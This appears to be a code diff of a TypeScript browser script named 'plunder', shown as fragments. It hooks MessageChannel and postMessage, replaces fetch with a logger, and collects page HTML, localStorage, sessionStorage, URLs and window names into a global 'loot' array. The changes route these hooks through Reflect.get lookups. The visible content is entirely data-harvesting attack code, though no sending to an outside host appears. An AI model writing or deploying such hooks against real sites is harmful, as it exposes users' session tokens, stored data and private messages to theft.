@@ -14,13 +14,13 @@ declare global {
 export function plunder(): void {
   const loot: string[] = [];
   window.loot = loot;
-  const { stringify } = JSON;
-  const push = Array.prototype.push;
+  const stringify = Reflect.get(JSON, "stringify") as (value: unknown) => string | undefined;
+  const push = Reflect.get(Array.prototype, "push") as (...items: unknown[]) => number;
   const keep = (where: string, ...values: unknown[]) => {
     for (const value of values) {
       let text = "";
       try {
-        text = typeof value === "string" ? value : (stringify.call(JSON, value) ?? "");
+        text = typeof value === "string" ? value : (stringify(value) ?? "");
       } catch (error) {
         text = String(error);
       }
@@ -61,7 +61,7 @@ export function plunder(): void {
     keep(label, data, key, detail);
   };
   const TrueChannel = MessageChannel;
-  const connect = MessagePort.prototype.postMessage;
+  const connect = Reflect.get(MessagePort.prototype, "postMessage") as (data: unknown) => void;
   window.MessageChannel = class {
     readonly port1: MessagePort;
     readonly port2: MessagePort;
@@ -97,8 +97,8 @@ export function plunder(): void {
   };
   const searchWindow = (where: string, target: Window) => {
     attempt(`${where} document`, () => target.document.documentElement.outerHTML);
-    attempt(`${where} localStorage`, () => ({ ...target.localStorage }));
-    attempt(`${where} sessionStorage`, () => ({ ...target.sessionStorage }));
+    attempt(`${where} localStorage`, () => Object.entries(target.localStorage));
+    attempt(`${where} sessionStorage`, () => Object.entries(target.sessionStorage));
     attempt(`${where} address`, () => target.location.href);
     attempt(`${where} name`, () => target.name);
     attempt(`${where} fetch`, () => Object.assign(target, { fetch: keep }));
